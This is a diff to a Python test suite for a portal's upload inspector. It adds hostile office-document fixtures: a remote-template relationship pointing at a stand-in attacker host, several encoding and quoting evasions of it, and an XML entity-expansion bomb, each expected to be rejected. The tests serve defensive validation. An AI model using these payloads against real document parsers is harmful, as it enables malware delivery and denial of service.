@@ -10,13 +10,16 @@ from portal.files import inspection
 from portal.files.incoming import LARGEST
 from tests.factories import Cast
 from tests.files.conftest import attach, kept, rows, say
-from tests.files.made import EXE, HTML, PDF, SVG, animated, archive, noise, odt, office, picture, png_claiming, with_link_out_of_it
+from tests.files.made import EXE, HTML, PDF, SVG, animated, archive, noise, odt, office, picture, png_claiming, related, with_link_out_of_it
 from tests.making import make_finding
 
 TEMPLATE = (
     b'<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
     b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
 )
+GROWING = b'<!DOCTYPE x [<!ENTITY a0 "aaaaaaaaaa">' + b"".join(
+    b'<!ENTITY a%d "%s">' % (depth, b"&a%d;" % (depth - 1) * 10) for depth in range(1, 9)
+) + b"]><x>&a8;</x>"
 MACRO_TYPES = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
 UNKNOWN = "Filtypen går inte att bifoga."
 BROKEN = "Filen är trasig eller går inte att läsa."
@@ -61,6 +64,15 @@ HOSTILE: dict[str, tuple[str, bytes | Callable[[], bytes], int, str]] = {
     "macros by type": ("svar.docx", archive({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": b"<x/>"}), 415, MACRO),
     "macros in odt": ("svar.odt", odt(Basic__script=b"x"), 415, MACRO),
     "template from elsewhere": ("svar.docx", archive({"[Content_Types].xml": b"<x/>", "word/_rels/settings.xml.rels": TEMPLATE}), 415, MACRO),
+    "the same in other quotes": ("svar.docx", related(TEMPLATE.replace(b'"', b"'")), 415, MACRO),
+    "the same after a bracket": ("svar.docx", related(TEMPLATE.replace(b'Id="1"', b'Id="1>"')), 415, MACRO),
+    "the same in two bytes a letter": ("svar.docx", related(TEMPLATE.decode().encode("utf-16")), 415, MACRO),
+    "the same by number": ("svar.docx", related(TEMPLATE.replace(b"Template", b"Templ&#97;te")), 415, MACRO),
+    "the same in capitals": ("svar.docx", related(TEMPLATE, "word/_rels/settings.xml.RELS"), 415, MACRO),
+    "macros by another name": ("svar.docx", related(TEMPLATE.replace(b"attachedTemplate", b"vbaProject").replace(b"External", b"Internal")), 415, MACRO),
+    "relations that are no XML": ("svar.docx", related(b"<Relationships"), 422, BROKEN),
+    "relations that grow": ("svar.docx", related(GROWING), 422, BROKEN),
+    "an entry twice": ("svar.docx", related(b"<x/>", "MAIN.xml"), 422, BROKEN),
     "a million times itself": ("svar.docx", lambda: office(word__x=bytes(600 << 20)), 413, BOMB),
     "ten thousand entries": ("svar.docx", lambda: office(**{f"x{n}": b"" for n in range(10_000)}), 413, BOMB),
     "a link out of it": ("svar.docx", with_link_out_of_it(), 422, BROKEN),
@@ -68,6 +80,12 @@ HOSTILE: dict[str, tuple[str, bytes | Callable[[], bytes], int, str]] = {
     "two kinds of office": ("svar.docx", archive({"[Content_Types].xml": b"wordprocessingml.document.main+xml spreadsheetml.sheet.main+xml"}), 415, UNKNOWN),
 }
 
+
+
+async def test_a_document_with_an_ordinary_link_is_kept(cast: Cast, session: Session, browser):
+    record, maja = await make_finding(session, cast.contact), await browser(cast.contact)
+    link = TEMPLATE.replace(b"attachedTemplate", b"hyperlink").replace(b"<Relationships>", b'<?xml version="1.0" encoding="UTF-8"?><Relationships>')
+    assert (await attach(maja, record, "svar.docx", related(link))).status_code == 201
 
 
 @pytest.mark.parametrize("case", HOSTILE)
